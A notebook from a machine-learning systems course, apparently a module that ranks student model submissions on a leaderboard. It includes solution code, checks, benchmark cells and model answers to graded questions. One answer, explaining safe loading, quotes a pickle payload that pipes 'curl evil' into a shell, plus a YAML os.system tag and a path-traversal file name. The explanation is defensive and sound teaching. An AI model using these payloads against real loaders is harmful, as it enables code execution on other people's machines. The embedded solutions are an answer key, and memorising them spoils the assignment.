assert record["accuracy"] == float(np.mean((x_test @ w.T).argmax(axis=1) == y_test))
assert record["latency_ms"] == 1000.0 and next(ticks) == 10, "5 timed runs, two clock reads each"
assert record["flops"] == 2 * 360 * 64 * 10 + 360 * 10 and record["peak_bytes"] >= 360 * 10 * 4
assert set(record) == {"accuracy", "latency_ms", "latency_low_ms", "latency_high_ms", "param_bytes",
                       "peak_bytes", "flops"}

# %% [markdown]
# ## 7. The rules: disqualification with a reason
#
# `disqualify(record, event)` returns the list of rules of `event` that a record breaks, as
# tuples `(record key, measured value, limit)`, in the order of `RULES`. A rule whose limit
# (the `Event` attribute) is `None` does not apply. `"min"` rules need `value >= limit`
# (accuracy at least the bar), `"max"` rules `value <= limit`: a value exactly at the limit
# qualifies. An empty list means the entry competes. `reason(broken)` (given) turns the list
# into a sentence for the leaderboard.

# %% tags=["export"]
def disqualify(record, event):
    """[(key, value, limit)] of the rules of `event` that `record` breaks, in RULES order."""
    ### BEGIN SOLUTION
    broken = []
    for key, attribute, kind in RULES:
        limit = getattr(event, attribute)
        if limit is None:
            continue
        value = record[key]
        if (value < limit) if kind == "min" else (value > limit):
            broken.append((key, value, limit))
    return broken
    ### END SOLUTION


def reason(broken):
    """'accuracy 0.9111 < 0.95; peak_bytes 600000 > 524288' for disqualify()'s list."""
    parts = []
    for key, value, limit in broken:
        sign = "<" if key == "accuracy" else ">"
        parts.append(f"{key} {value:.4g} {sign} {limit:.4g}" if isinstance(value, float) else f"{key} {value} {sign} {limit}")
    return "; ".join(parts)

# %% [markdown]
# ### Check: rules at their limits

# %%
budget = EVENTS["budget"]
at_limit = {"accuracy": 0.5, "latency_ms": 20.0, "peak_bytes": 512 * 1024, "param_bytes": 10**9}
assert disqualify(at_limit, budget) == [], "a value exactly at the limit qualifies"
over = {**at_limit, "latency_ms": 20.5, "peak_bytes": 600_000}
assert disqualify(over, budget) == [("latency_ms", 20.5, 20.0), ("peak_bytes", 600_000, 524_288)]
assert disqualify({**at_limit, "accuracy": 0.9}, EVENTS["fastest"]) == [("accuracy", 0.9, 0.95)]
print(reason(disqualify(over, budget)))

# %% [markdown]
# ## 8. Ranking: noisy measurements, deterministic ties
#
# Ranking by an exact quantity (stored bytes, accuracy on a fixed split) is sorting. Ranking
# by **latency** is not: score the same folder twice and every median moves by a few percent,
# so two models 3% apart would swap places from one run to the next, and a leaderboard that
# changes when nobody changed anything is worthless. Two ways out:
#
# - rank by a **deterministic proxy** such as FLOPs: reproducible, but module 14 showed that
#   FLOPs are not time (small layers are overhead-bound), so the event would no longer
#   measure speed;
# - rank by the **measured median with a tolerance**: values within `event.tolerance`
#   (relative) of each other count as tied, and ties are broken by deterministic keys.
#
# The Olympics do the second, with the proxy as the first tie-breaker. `rank_event(records,
# event)` takes the records that qualify (each has a `"student"` key) and returns the list of
# student ids from first to last:
#
# 1. sort the records by `event.rank_by` (ascending for `"min"`, descending for `"max"`),
#    then by the `event.tie_break` keys (ascending), then by `"student"`;
# 2. sweep that order into groups: the first record starts a group; each next record joins
#    the current group when its value is within the tolerance of the **previous** record's
#    value `v`: `value <= v * (1 + tolerance)` for `"min"`, `value >= v * (1 - tolerance)`
#    for `"max"`; otherwise it starts a new group (with `tolerance = 0` only equal values
#    group);
# 3. inside each group, order by the `tie_break` keys, then by `"student"` (ascending);
#    groups keep their order.
#
# Why does this make rankings reproducible? When the tie-breakers order two models the same
# way as their latencies (more FLOPs, more time: the usual case), grouping them or not gives
# the same order; grouping matters only for models that the measurement cannot tell apart,
# and those are then ordered by a rule that does not depend on the clock. A group boundary
# falls only where two neighbouring medians are more than the tolerance apart. (Linking each
# record to the previous one, "single linkage", lets a chain of small steps make a large
# group; comparing with the group's first record instead would put boundaries between
# models that the clock cannot separate, such as one model stored twice in two dtypes, and
# their order would then change from run to run.) A reproducibility test
# (`tests/framework/test_olympics.py`) scores the sample class twice and compares.

# %% tags=["export"]
def rank_event(records, event):
    """Student ids of the (qualifying) records from first to last: sorted by event.rank_by,
    grouped where neighbours lie within event.tolerance of each other, each group ordered by
    event.tie_break keys then student id."""
    ### BEGIN SOLUTION
    sign = 1.0 if event.sense == "min" else -1.0

    def tie_key(r):
        return tuple(r[k] for k in event.tie_break) + (r["student"],)

    ordered = sorted(records, key=lambda r: (sign * r[event.rank_by],) + tie_key(r))
    groups = []
    for r in ordered:
        value = r[event.rank_by]
        if groups:
            last = groups[-1][-1][event.rank_by]
            close = value <= last * (1 + event.tolerance) if event.sense == "min" else value >= last * (1 - event.tolerance)
            if close:
                groups[-1].append(r)
                continue
        groups.append([r])
    return [r["student"] for group in groups for r in sorted(group, key=tie_key)]
    ### END SOLUTION

# %% [markdown]
# ### Check: a near-tie broken by FLOPs

# %%
records = [
    {"student": "cy", "latency_ms": 1.10, "flops": 900, "param_bytes": 50, "accuracy": 0.97},
    {"student": "al", "latency_ms": 1.00, "flops": 2000, "param_bytes": 80, "accuracy": 0.98},
    {"student": "bo", "latency_ms": 3.00, "flops": 100, "param_bytes": 10, "accuracy": 0.97},
    {"student": "di", "latency_ms": 1.20, "flops": 900, "param_bytes": 40, "accuracy": 0.99},
]
assert rank_event(records, EVENTS["fastest"]) == ["di", "cy", "al", "bo"], rank_event(records, EVENTS["fastest"])
assert rank_event(records, EVENTS["smallest"]) == ["bo", "di", "cy", "al"]
assert rank_event(records, EVENTS["budget"]) == ["di", "al", "bo", "cy"], "accuracy ties: fewer bytes first"

# %% [markdown]
# ## 9. The leaderboard
#
# `leaderboard(entries, events=EVENTS)` turns scored entries into one pandas `DataFrame`.
# An entry is a dict with `student`, `events` (the event names it entered), `errors` (a list
# of strings; not empty means invalid) and `record` (`score_model`'s dict, or `None` when
# invalid). For each event of `events` (a dict name -> `Event`, in its order), over the
# entries that name it (entries whose `events` list is empty are listed under every event):
#
# 1. the **ranked** ones: valid and `disqualify(record, event) == []`, in `rank_event` order,
#    `rank` 1, 2, 3, ..., `status` `"ok"`;
# 2. then the **disqualified** ones (valid, breaking a rule), by student id: `rank` missing,
#    `status` `"disqualified: " + reason(broken)`;
# 3. then the **invalid** ones, by student id: `rank` missing, `status` `"invalid: "` + the
#    first error, followed by `f" (+{n} more)"` when there are `n > 0` more.
#
# One row per (event, entry) with the columns `COLUMNS`: `event`, `rank`, `student`, then the
# record's `accuracy`, `latency_ms`, `param_bytes`, `peak_bytes`, `flops` (missing for invalid
# entries), then `status`. A missing value is `None`; the columns of `INTEGER_COLUMNS` get
# pandas' nullable integer type, `df[c] = df[c].astype("Int64")`, so a rank prints as 1 and
# not 1.0 even in a column with missing values. With no rows at all, return an empty
# DataFrame with these columns.
#
# `to_markdown(df)` (given) prints it with `tabulate` (`DataFrame.to_markdown`), and
# `df.to_csv(path, index=False)` writes it for a spreadsheet or the course's gradebook.
#
# **Scoring a whole class (given): interleave.** `score_folder` runs your `score_model` on
# every valid submission for accuracy, memory and FLOPs, but measures the latencies of all
# models *together*, round-robin (`interleaved_latency`): round 1 times model A, B, C once
# each, round 2 again, and so on; each model's median and interval come from its times over
# the rounds. On a shared machine the load comes in bursts that last longer than one forward
# pass: timed one after the other, the model measured during a burst looks slow; interleaved,
# every burst hits every model alike, and what stays in the comparison is the difference
# between the models. (Module 19 recommended it for comparing two versions: A, B, A, B.)

# %% tags=["export"]
COLUMNS = ["event", "rank", "student", "accuracy", "latency_ms", "param_bytes", "peak_bytes", "flops", "status"]
METRICS = COLUMNS[3:-1]
INTEGER_COLUMNS = ["rank", "param_bytes", "peak_bytes", "flops"]


def leaderboard(entries, events=EVENTS):
    """A DataFrame with one row per (event, entry): ranked entries first, then disqualified,
    then invalid ones, with their measurements and a status that says why."""
    ### BEGIN SOLUTION
    import pandas as pd

    rows = []
    for name, event in events.items():
        entered = [e for e in entries if name in e["events"] or not e["events"]]
        valid = [e for e in entered if not e["errors"]]
        ranked = [e for e in valid if not disqualify(e["record"], event)]
        order = rank_event([{**e["record"], "student": e["student"]} for e in ranked], event)
        by_id = {e["student"]: e for e in ranked}
        for position, student in enumerate(order, start=1):
            rows.append({"event": name, "rank": position, "student": student,
                         **{k: by_id[student]["record"][k] for k in METRICS}, "status": "ok"})
        for e in sorted((e for e in valid if e["student"] not in by_id), key=lambda e: e["student"]):
            rows.append({"event": name, "rank": None, "student": e["student"], **{k: e["record"][k] for k in METRICS},
                         "status": "disqualified: " + reason(disqualify(e["record"], event))})
        for e in sorted((e for e in entered if e["errors"]), key=lambda e: e["student"]):
            more = len(e["errors"]) - 1
            rows.append({"event": name, "rank": None, "student": e["student"], **{k: None for k in METRICS},
                         "status": "invalid: " + e["errors"][0] + (f" (+{more} more)" if more else "")})
    table = pd.DataFrame(rows, columns=COLUMNS)
    for column in INTEGER_COLUMNS:
        table[column] = table[column].astype("Int64")
    return table
    ### END SOLUTION


def to_markdown(table):
    """The leaderboard as a Markdown table (tabulate), missing values shown as '-'."""
    shown = table.astype(object).where(table.notna(), None)
    return shown.to_markdown(index=False, floatfmt=".4g", missingval="-")


def interleaved_latency(models, x, warmup=3, repeats=21, clock=time.perf_counter):
    """(median, ci_low, ci_high) in seconds of each model's forward pass on x, timed
    round-robin: each of the `repeats` rounds times every model once, starting one model
    later each round, so a burst of load on the machine slows all models alike instead of the
    one that happened to be running."""
    xt = Tensor(x)
    samples = [[] for _ in models]
    with no_grad():
        for _ in range(warmup):
            for model in models:
                model(xt)
        for round_ in range(repeats):
            # each round starts one model later: no model always follows the same neighbour
            # (whose temporaries left the caches and the allocator in a particular state)
            for i in np.roll(np.arange(len(models)), -round_):
                start = clock()
                models[i](xt)
                samples[i].append(float(clock() - start))
    return [median_ci(times) for times in samples]


def score_folder(folder, events=EVENTS, warmup=3, repeats=21, clock=time.perf_counter, seed=SPLIT_SEED):
    """Load and score every submission folder under `folder` (sorted by name) on the held-out
    test split: score_model for accuracy, memory and FLOPs, then the latencies of all valid
    models measured together by interleaved_latency. Returns the entries for leaderboard()."""
    x, y = load_test_split(seed)
    entries, scored = [], []
    for path in sorted(p for p in Path(folder).iterdir() if p.is_dir() and not p.name.startswith(".")):
        entry = load_submission(path)
        model = entry.pop("model")
        entry["record"] = None
        if model is not None:
            entry["record"] = score_model(model, x, y, entry["param_bytes"], warmup=0, repeats=1, clock=clock)
            scored.append((entry, model))
        entries.append(entry)
    latencies = interleaved_latency([model for _, model in scored], x, warmup=warmup, repeats=repeats, clock=clock)
    for (entry, _), (median, low, high) in zip(scored, latencies):
        entry["record"].update(latency_ms=median * 1e3, latency_low_ms=low * 1e3, latency_high_ms=high * 1e3)
    return entries


BLAS_THREADS = ("OPENBLAS_NUM_THREADS", "OMP_NUM_THREADS", "MKL_NUM_THREADS")


def main(argv=None):
    """python -m tinytorch.olympics SUBMISSIONS [--csv FILE]: print the leaderboard.

    Run as a command, it restarts itself with one BLAS thread unless a thread count is set:
    BLAS reads it only when NumPy loads, and several BLAS threads on a shared machine make
    the timings of small matrix products erratic (they wait for each other)."""
    args = list(sys.argv[1:] if argv is None else argv)
    if not args or args[0] in ("-h", "--help") or len(args) not in (1, 3) or (len(args) == 3 and args[1] != "--csv"):
        print("usage: python -m tinytorch.olympics SUBMISSIONS_DIR [--csv FILE]")
        return 2
    if not Path(args[0]).is_dir():
        print(f"error: {args[0]} is not a folder of submissions")
        return 2
    if argv is None and not any(os.environ.get(name) for name in BLAS_THREADS):
        sys.stdout.flush()
        os.execve(sys.executable, [sys.executable, "-m", "tinytorch.olympics", *args],
                  {**os.environ, **{name: "1" for name in BLAS_THREADS}})
    threads = next((os.environ[n] for n in BLAS_THREADS if os.environ.get(n)), "default (all cores)")
    print(f"Torch Olympics: {args[0]}, scored on the held-out digits with BLAS threads: {threads}")
    table = leaderboard(score_folder(args[0]))
    for name, event in EVENTS.items():
        print(f"\n## {event.title} ({name})\n")
        print(to_markdown(table[table["event"] == name].drop(columns="event")))
    if len(args) == 3:
        table.to_csv(args[2], index=False)
        print(f"\nwrote {args[2]}")
    return 0


# `python -m tinytorch.olympics ...` only: not when a notebook or a script runs this code.
if __name__ == "__main__" and getattr(globals().get("__spec__"), "name", None) == "tinytorch.olympics":
    sys.exit(main())

# %% [markdown]
# ### Check: a tiny class, end to end
#
# Two models trained for 5 epochs with the framework you built (autograd, Adam, cross
# entropy), written as three submissions (the third a copy with a truncated weight), then
# scored and ranked.

# %%
import tempfile

from tinytorch.core.losses import CrossEntropyLoss
from tinytorch.core.optimizers import Adam


def train_mlp(widths, epochs=10, seed=0, lr=1e-2, batch=64):
    """A digits MLP of the given hidden widths trained on the train split: (layers, arrays)."""
    x_train, y_train = load_train_split()
    specs, fan_in = [], IN_FEATURES
    for width in list(widths) + [N_CLASSES]:
        specs += [{"type": "Linear", "in_features": fan_in, "out_features": width}, {"type": "ReLU"}]
        fan_in = width
    specs.pop()  # no ReLU after the last Linear
    model = Sequential(*[Linear(s["in_features"], s["out_features"], rng=seed + i) if s["type"] == "Linear" else ReLU()
                         for i, s in enumerate(specs)])
    opt, loss_fn, order_rng = Adam(model.parameters(), lr=lr), CrossEntropyLoss(), np.random.default_rng(seed)
    for _ in range(epochs):
        order = order_rng.permutation(len(x_train))
        for start in range(0, len(order), batch):
            rows = order[start:start + batch]
            opt.zero_grad()
            loss_fn(model(Tensor(x_train[rows])), y_train[rows]).backward()
            opt.step()
    return specs, model.state_dict()


def write_submission(root, student, events, specs, arrays, description="a digits MLP"):
    folder = Path(root) / student
    folder.mkdir(parents=True, exist_ok=True)
    meta = {"student": student, "events": events, "description": description,
            "model": {"weights": "model.npz", "layers": specs}}
    (folder / "submission.yaml").write_text(yaml.safe_dump(meta, sort_keys=False))
    np.savez(folder / "model.npz", **arrays)
    return folder


with tempfile.TemporaryDirectory() as root:
    specs, arrays = train_mlp([16], epochs=5)
    write_submission(root, "ada", ["fastest", "smallest", "budget"], specs, arrays)
    specs, arrays = train_mlp([], epochs=5)
    write_submission(root, "ben", ["fastest", "smallest"], specs, arrays)
    write_submission(root, "cy", ["fastest"], specs, {**arrays, "0.weight": arrays["0.weight"][:5]})
    entries = score_folder(root, warmup=1, repeats=5)
board = leaderboard(entries)
print(to_markdown(board))
assert list(board.columns) == COLUMNS and str(board["rank"].dtype) == "Int64"
assert board[board["student"] == "cy"]["status"].iloc[0].startswith("invalid: cy/model.npz: 0.weight: expected shape")
assert list(board[board["event"] == "smallest"]["student"]) == ["ben", "ada"], "the linear model is smaller"

# %% [markdown]
# ## 10. Systems analysis: is the leaderboard a measurement?
#
# Run the cell below. It trains a small class of models on your machine and measures:
#
# 1. the leaderboard of six submissions (widths 0 to 256, one stored as int8 and one as
#    float16), scored on the 360 held-out digits;
# 2. **reproducibility**: the same folder scored five times. How often does the order by raw
#    median latency change, and how often the order `rank_event` gives (tolerance 25%, ties
#    by FLOPs)? It also prints how far each model's median moved between runs, interleaved
#    (`score_folder`) and timed one model after the other (`score_model` on each in turn);
# 3. **bytes against accuracy**: one trained model stored as float32, float16 and int8: the
#    stored bytes and the accuracy each keeps;
# 4. **the cost of safety**: the time to validate and load a submission against the time to
#    score it.
#
# **Measure on a quiet machine, with one BLAS thread** (`OPENBLAS_NUM_THREADS=1 jupyter lab`);
# the cell prints the setting it ran with. Read the numbers before answering the questions.

# %% tags=["analysis"]
import os

threads = os.environ.get("OPENBLAS_NUM_THREADS") or os.environ.get("OMP_NUM_THREADS") or "default (all cores)"
print(f"BLAS threads: {threads}; CPU cores: {os.cpu_count()}")


def quantize(arrays, dtype):
    """A float32 state_dict stored as float16, or as int8 with a float32 scale per row."""
    out = {}
    for name, a in arrays.items():
        if dtype == "float16":
            out[name] = a.astype(np.float16)
        elif name.endswith(".weight"):
            row_scale = np.maximum(np.abs(a).max(axis=1), 1e-12) / 127.0
            out[name] = np.clip(np.round(a / row_scale[:, None]), -127, 127).astype(np.int8)
            out[name[:-len("weight")] + "weight_scale"] = row_scale.astype(np.float32)
        else:
            out[name] = a
    return out


def with_dtype(specs, dtype):
    return [{**s, "dtype": dtype} if s["type"] == "Linear" else s for s in specs]


class_root = Path(tempfile.mkdtemp(prefix="olympics-"))
everything = ["fastest", "smallest", "budget"]
for student, widths in [("w000", []), ("w016", [16]), ("w064", [64]), ("w256", [256]), ("w128x128", [128, 128])]:
    specs, arrays = train_mlp(widths, epochs=20)
    write_submission(class_root, student, everything, specs, arrays)
    if widths == [64]:
        write_submission(class_root, "w064-int8", everything, with_dtype(specs, "int8"), quantize(arrays, "int8"))
        write_submission(class_root, "w064-fp16", everything, with_dtype(specs, "float16"), quantize(arrays, "float16"))

print("\n1. The leaderboard of the class")
runs = [score_folder(class_root, warmup=5, repeats=31) for _ in range(5)]
print(to_markdown(leaderboard(runs[0])))

print("\n2. Reproducibility over 5 scorings of the same folder (fastest event)")
raw_orders, ranked_orders = [], []
for run in runs:
    valid = [{**e["record"], "student": e["student"]} for e in run if not e["errors"]]
    raw_orders.append(tuple(r["student"] for r in sorted(valid, key=lambda r: r["latency_ms"])))
    ranked_orders.append(tuple(rank_event([r for r in valid if not disqualify(r, EVENTS["fastest"])], EVENTS["fastest"])))
print(f"   distinct orders by raw median: {len(set(raw_orders))} of 5; by rank_event: {len(set(ranked_orders))} of 5")
for order in sorted(set(raw_orders)):
    print(f"   raw order seen {raw_orders.count(order)}x: {' < '.join(order)}")
print(f"   rank_event order: {' < '.join(ranked_orders[0])}")
print(f"   {'model':<10} {'min median ms':>14} {'max median ms':>14} {'spread %':>9} {'95% CI width % (run 1)':>23}")
for i, entry in enumerate(runs[0]):
    medians = [run[i]["record"]["latency_ms"] for run in runs]
    r = entry["record"]
    print(f"   {entry['student']:<10} {min(medians):>14.4f} {max(medians):>14.4f} "
          f"{100 * (max(medians) - min(medians)) / min(medians):>9.1f} "
          f"{100 * (r['latency_high_ms'] - r['latency_low_ms']) / r['latency_ms']:>23.1f}")

x_test, y_test = load_test_split()
loaded = {e["student"]: load_submission(class_root / e["student"]) for e in runs[0]}
sequential = [{name: score_model(sub["model"], x_test, y_test, sub["param_bytes"], warmup=5, repeats=31)["latency_ms"]
               for name, sub in loaded.items()} for _ in range(5)]
seq_orders = {tuple(sorted(run, key=run.get)) for run in sequential}
print(f"\n   timed one after the other instead: distinct orders by raw median: {len(seq_orders)} of 5")
print("   each model's median divided by w064's median of the same run, min-max over the 5 runs:")
print(f"   {'model':<10} {'interleaved':>15} {'one after the other':>21}")
for i, entry in enumerate(runs[0]):
    ref = [e["student"] for e in runs[0]].index("w064")
    inter = [run[i]["record"]["latency_ms"] / run[ref]["record"]["latency_ms"] for run in runs]
    seq = [run[entry["student"]] / run["w064"] for run in sequential]
    print(f"   {entry['student']:<10} {min(inter):>7.2f}-{max(inter):<7.2f} {min(seq):>11.2f}-{max(seq):<9.2f}")

print("\n3. Stored bytes against accuracy: the w064 model in three dtypes")
for student in ("w064", "w064-fp16", "w064-int8"):
    r = next(e["record"] for e in runs[0] if e["student"] == student)
    print(f"   {student:<10} {r['param_bytes']:>7,} bytes   accuracy {r['accuracy']:.4f}")

print("\n4. The cost of safety: validating and loading against scoring (one submission, w064)")
load_time = benchmark(lambda: load_submission(class_root / "w064"), warmup=2, repeats=21)
w064 = loaded["w064"]
score_time = benchmark(lambda: score_model(w064["model"], x_test, y_test, w064["param_bytes"]), warmup=1, repeats=5)
print(f"   load + validate: {load_time.median * 1e3:.3f} ms   score (21 timed runs + memory + FLOPs): "
      f"{score_time.median * 1e3:.3f} ms")
for path in class_root.glob("*/*"):
    path.unlink()
for path in class_root.iterdir():
    path.rmdir()
class_root.rmdir()

# %% [markdown]
# ## 11. ML-systems questions
#
# Answer each question in the cell below it, in a few sentences. Refer to your code and to the
# numbers section 10 printed. These answers are graded by a TA (10 points each) with the course
# rubric: understanding, references to your implementation, and systems implications count.
#
# **Question 1 (ranking by a noisy measurement).**
# Section 10 scored the same folder five times. How much did each model's median latency move
# between runs, interleaved and timed one after the other, compared with the width of its 95%
# interval within one run? How often did the order by raw medians change, and the order
# `rank_event` gives? Explain why interleaving, the tolerance and the FLOPs tie-breaker make
# the ranking reproducible, when they could still fail, and why the event does not simply rank
# by FLOPs. How would you run the fastest-inference event for a class whose submissions are
# scored on different machines?

# %% [markdown] tags=["answer"] question="q1"
# On my (shared, two-core) machine each model's median moved between the five scorings by
# about as much as, and for several models more than, the width of one run's 95% interval:
# the order-statistics interval covers the noise *within* a run, while the load changing
# between runs shifts every sample of that run at once. The raw-median order changed in most runs, always among models
# the clock cannot separate: w064, w064-fp16 and w064-int8 are the same float32 network at run
# time (`build_model` dequantises), so their order by raw median is a coin toss. `rank_event`
# gave the same order in every run. Three things make that so. Interleaving
# (`interleaved_latency`, one model after another within each round, starting one later each
# round) makes a burst of load hit every model alike: for the models the clock cannot
# separate, the ratios to w064 measured in the same run stayed much tighter interleaved than
# timed one model after the other. The 25% tolerance
# puts neighbours the measurement cannot separate in one group, and inside a group the order
# comes from FLOPs and stored bytes, which do not depend on the clock; where FLOPs and time
# agree (w000 < w016 < w064 < w256), grouping or not gives the same order. It can still fail
# when two neighbours sit about 25% apart and their FLOPs order disagrees with their time order:
# a little jitter then moves the boundary. Ranking by FLOPs alone would be reproducible but would
# not measure speed: module 14 showed that small and element-wise layers are overhead-bound (in
# this table w128x128 has 1.4x the FLOPs of w256 and a different time ratio), so deep narrow
# models and wide shallow ones with equal FLOPs run at different speeds. Across machines I would
# not compare raw times: score all submissions on one reference machine with pinned threads
# (MLPerf fixes the system under test), interleaved and repeated, or report each latency as a
# ratio to a reference model measured in the same rounds.

# %% [markdown]
# **Question 2 (what counts as small).**
# Section 10 stored one model as float32, float16 and int8 and measured the bytes and the
# accuracy of each. How much smaller did each get, and what did it cost in accuracy? The
# scorer counts bytes as stored but runs every model in float32: what does the `smallest`
# event reward, and what does it miss about memory at inference time (look at `peak_bytes`)?
# For a model with 1B parameters, what do these three formats mean for the file, the memory
# to run it, and the time to load it?

# %% [markdown] tags=["answer"] question="q2"
# float16 halved the stored bytes of w064 exactly, and int8 with a float32 scale per row cut
# them to a bit more than a quarter: the scales and the float32 biases are the overhead. The
# accuracy on the 360 held-out digits did not move for float16 and dropped by one image for
# int8: per-row scales keep the rounding error small because each row's largest weight sets
# its own step. The `smallest` event rewards the size of what is shipped and stored (a
# download, flash on a device, the model cache of a serving fleet), which is what
# `param_bytes` counts (`sum(a.nbytes)` of the arrays as stored). It misses what running costs:
# `build_model` dequantises to float32, so in memory the int8 model is as large as the float32
# one, and `peak_bytes` (the activations of the 360-image batch, measured by tracemalloc) is
# the same for the three w064 variants and far larger than their weights: for small models
# the activations, not the parameters, set the memory. A real int8 deployment computes in int8
# (module 15), keeping weights and activations small. At 1B parameters the file is about 4 GB
# in float32, 2 GB in float16 and 1 GB in int8; dequantising at load would need the 4 GB again,
# so one keeps the low-precision weights in memory and dequantises per layer or runs int8
# kernels. Loading is then bound by disk and memory bandwidth: a format that can be memory-
# mapped without copying (safetensors, or an uncompressed npz member) and sharded files matter
# more than the parsing time measured here.

# %% [markdown]
# **Question 3 (a submission is data).**
# Why does the scorer read `submission.yaml` with `yaml.safe_load` and the weights with
# `np.load(allow_pickle=False)`, build layers from a whitelist, and cap file and array sizes?
# Give one concrete attack for each of these defences. Section 10 measured the time to load and
# validate a submission against the time to score it: what does safety cost? What do PyTorch
# and Hugging Face use for the same problem, and what would still be unsafe if the scorer
# accepted a `torch.save`d model?

# %% [markdown] tags=["answer"] question="q3"
# A pickle names functions that are called while it loads: a file whose `__reduce__` returns
# `(os.system, ("curl evil | sh",))` runs a command on the grader the moment it is read, with
# the grader's rights over every other student's files and grades. `yaml.load` with the full
# loader has the same hole (`!!python/object/apply:os.system`), so `read_submission` uses the
# safe loader, which builds only dicts, lists, strings and numbers, and `np.load(...,
# allow_pickle=False)`, which refuses object arrays (the framework tests plant both payloads and
# check that no marker file appears). The whitelist means the file never names a Python object:
# `build_model` looks the validated type up in our own code, so a layer type `os.system` is just
# an unknown string that `validate_layers` reports. The caps stop resource attacks: a zip member
# declaring gigabytes (a zip bomb) is refused from its declared size before anything is
# inflated, a `Linear` of 10^6 x 10^6 by `MAX_FEATURES`, a thousand layers by `MAX_LAYERS`, and
# `weights: ../../grades.csv` by the file-name pattern; a symlinked weights file is refused too.
# Section 10 measured validating and loading one submission at milliseconds, less than
# scoring it: for a whole class, safety costs about a second, nothing next to the damage it
# prevents. PyTorch made `torch.load(weights_only=True)` the default (2.6), Hugging
# Face uses `safetensors` (a JSON header plus raw bytes) and ONNX describes the graph as data. A
# `torch.save`d full model is a pickle of the student's module class: loading it imports and
# runs their code, and with `weights_only=True` we would get only a state_dict and still need an
# architecture format like ours. Even with data-only files the scorer should run in a sandbox
# with time and memory limits, as the course's grader does, because a valid model can still be
# slow or huge within the caps.
